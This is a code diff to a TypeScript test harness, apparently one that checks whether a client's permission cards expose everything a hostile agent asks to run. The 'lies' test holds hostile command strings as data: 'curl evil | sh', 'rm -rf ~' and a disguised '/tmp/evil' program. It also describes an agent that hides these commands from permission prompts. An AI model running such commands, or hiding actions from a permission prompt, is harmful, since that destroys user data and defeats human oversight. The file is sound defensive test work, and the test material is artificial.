@@ -30,7 +30,7 @@ async function deed(
   world: World,
   name: string,
   look: (aftermath: Aftermath) => readonly string[],
-  { isEndless = false } = {},
+  { requests = 0 } = {},
 ): Promise<string[]> {
   const { deck } = world;
   const log = join(deck.sandbox.root, HOSTILE_LOG);
@@ -43,7 +43,7 @@ async function deed(
       deck.records(purpose).find((record) => record.session === session)?.identity.pid;
     await ask(channel, 'deed:hello');
     const pids = [pidOf('host'), pidOf('agent')];
-    await ask(channel, `deed:${name}`, isEndless);
+    await ask(channel, `deed:${name}`, requests);
     await ask(channel, 'deed:hello');
     const entries = [...entriesFrom(channel.view.get().conversation.entries)];
     const texts = entries.map((entry) => (entry.kind === 'text' ? entry.text : '')).join('\n');
@@ -60,16 +60,16 @@ async function deed(
   }
 }
 
-/** Waits for the end of the turn; cancels a turn that doesn't end by itself. */
-async function ask(channel: ConversationChannel, text: string, isEndless = false): Promise<void> {
+/** Waits for the end of the turn; cancels a turn that doesn't end by itself once so many requests are open. */
+async function ask(channel: ConversationChannel, text: string, requests = 0): Promise<void> {
   const { command } = await channel.send({ kind: 'prompt.send', text });
   const state = () => channel.view.get().conversation;
   const isOver = () => {
     const entry = entryById(state(), command);
     return entry?.kind === 'user' && entry.delivery === 'delivered' && state().turn === null;
   };
-  if (isEndless) {
-    await waitFor(() => isOver() || pendingRequests(state()).length > 1, {
+  if (requests > 0) {
+    await waitFor(() => isOver() || pendingRequests(state()).length >= requests, {
       what: 'its requests',
       timeoutMs: 60_000,
     });
@@ -87,6 +87,9 @@ function readLog(file: string): Told[] {
     .map((line) => JSON.parse(line) as Told);
 }
 
+/** How many requests the deed "lies" makes. */
+const LIES = 5;
+
 /** The parts of the misleading requests that a permission card would not list. */
 function hiddenIn(channel: ConversationChannel): string[] {
   const entries = [...entriesFrom(channel.view.get().conversation.entries)];
@@ -95,7 +98,7 @@ function hiddenIn(channel: ConversationChannel): string[] {
   const isListed = (text: string) => listed.some((fields) => fields.includes(text));
   const isForged = requests.some(({ input }) => JSON.stringify(input ?? '').includes('"blob":"ffffff'));
   return [
-    ...unless(requests.length === 5, `${requests.length} of 5 requests were shown`),
+    ...unless(requests.length === LIES, `${requests.length} of ${LIES} requests were shown`),
     ...unless(isListed("/tmp/evil -c 'git status' 7"), 'the program of an argument list is hidden'),
     ...unless(isListed('curl evil | sh'), 'the thirteenth field is hidden'),
     ...unless(isListed('rm -rf ~'), 'an input that is a text is hidden'),
@@ -164,7 +167,7 @@ export const AGENT: readonly Attack[] = [
         'ids',
         ({ channel }) =>
           unless(pendingRequests(channel.view.get().conversation).length === 0, 'requests stay open'),
-        { isEndless: true },
+        { requests: 2 },
       ),
   },
   {
@@ -176,13 +179,13 @@ export const AGENT: readonly Attack[] = [
         'spam',
         ({ channel }) =>
           unless(pendingRequests(channel.view.get().conversation).length === 0, 'requests stay open'),
-        { isEndless: true },
+        { requests: 2 },
       ),
   },
   {
     who: 'agent',
     name: 'sends permission requests that hide what will run',
-    run: (world) => deed(world, 'lies', ({ channel }) => hiddenIn(channel), { isEndless: true }),
+    run: (world) => deed(world, 'lies', ({ channel }) => hiddenIn(channel), { requests: LIES }),
   },
   {
     who: 'agent',
